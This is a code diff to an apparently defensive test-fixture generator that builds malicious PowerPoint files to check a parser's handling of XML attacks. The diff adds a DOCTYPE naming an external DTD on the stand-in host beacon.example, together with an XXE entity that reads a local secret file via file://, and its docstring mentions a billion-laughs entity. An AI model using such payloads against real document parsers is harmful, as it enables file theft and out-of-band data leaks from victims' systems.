@@ -188,11 +188,15 @@ def external_links(folder: Path) -> Path:
     return build(folder / "external.pptx", p)
 
 
+DTD_URL = "http://beacon.example/office.dtd"
+
+
 def doctype(folder: Path, secret: Path) -> Path:
-    """DOCTYPEs with an external entity (a local file) in the theme and the master, the entity
-    used in the master's text; a billion-laughs entity in a layout."""
+    """DOCTYPEs naming a DTD on a web server and an external entity (a local file) in the
+    theme and the master, the entity used in the master's text; a billion-laughs entity in a
+    layout."""
     p = sample_parts()
-    dtd = (f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>').encode()
+    dtd = (f'<!DOCTYPE x SYSTEM "{DTD_URL}" [<!ENTITY xxe SYSTEM "file://{secret}">]>').encode()
     for name in (THEME, MASTER):
         head, sep, body = p[name].partition(b"?>")
         p[name] = head + sep + dtd + body
